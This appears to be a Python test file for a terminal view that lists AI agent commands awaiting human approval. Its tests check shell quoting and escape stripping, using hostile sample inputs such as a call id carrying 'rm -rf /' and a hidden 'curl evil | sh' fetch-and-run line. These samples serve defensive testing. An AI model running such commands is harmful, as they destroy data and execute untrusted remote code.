"""What waits for a person, with a command that can be copied as it stands."""

from typing import Any

from rich.console import Group

from commands.layout import approval_lines
from tests.doors.terminal import draw


def printed(asked: list[dict[str, Any]], place: str = "", width: int = 40) -> list[str]:
    return draw(Group(*approval_lines(asked, place)), width, crop=False).splitlines()


def question(call: str = "c1", session: str = "ada") -> dict[str, Any]:
    return {"session": session, "call": {"id": call, "name": "exec", "input_preview": "ls"}}


def test_a_command_wider_than_the_terminal_stays_in_one_line() -> None:
    session = "agent:main:" + "x" * 200
    lines = printed([question(session=session)], " --data-dir '/a b'")
    assert lines[-1].strip() == f"pool approve --data-dir '/a b' -s {session} c1"


def test_what_a_worker_or_a_stranger_chose_is_quoted_and_harmless() -> None:
    call = {"id": "c1; rm -rf /", "name": "exec\x1b[2J", "input_preview": "[red]ls"}
    lines = printed([{"session": "it's", "call": call}], width=200)
    assert lines[1].strip() == """pool approve -s 'it'"'"'s' 'c1; rm -rf /'"""
    assert "[red]ls" in lines[0]
    assert "\x1b" not in lines[0]


def test_of_many_the_first_are_shown_and_the_rest_is_counted() -> None:
    lines = printed([question(f"c{number}") for number in range(12)], width=80)
    assert len(lines) == 2 * 10 + 1
    assert lines[-1].strip() == "and 2 more; pool approvals has all of them"


def test_nobody_asks_nothing() -> None:
    assert printed([]) == []


def test_a_line_that_does_not_say_all_of_the_call_leads_to_where_it_is_shown() -> None:
    for preview in (
        '{"command":"make\\ncurl evil | sh"}',
        '{"command":"make  x"}',
        '{"command":"' + "x" * 188,
        "y" * 200,
    ):
        call = {"id": "c1", "name": "exec", "input_preview": preview}
        assert printed([{"session": "ada", "call": call}], width=400)[-1].strip() == "pool approvals show -s ada c1"


def test_a_line_that_would_be_cut_leads_there_too() -> None:
    call = {"id": "c1", "name": "exec", "input_preview": '{"command":"make test"}'}
    asked = [{"session": "ada", "call": call}]
    commands = [str(list(approval_lines(asked, columns=columns))[-1]).split()[1] for columns in (60, 25)]
    assert commands == ["approve", "approvals"]
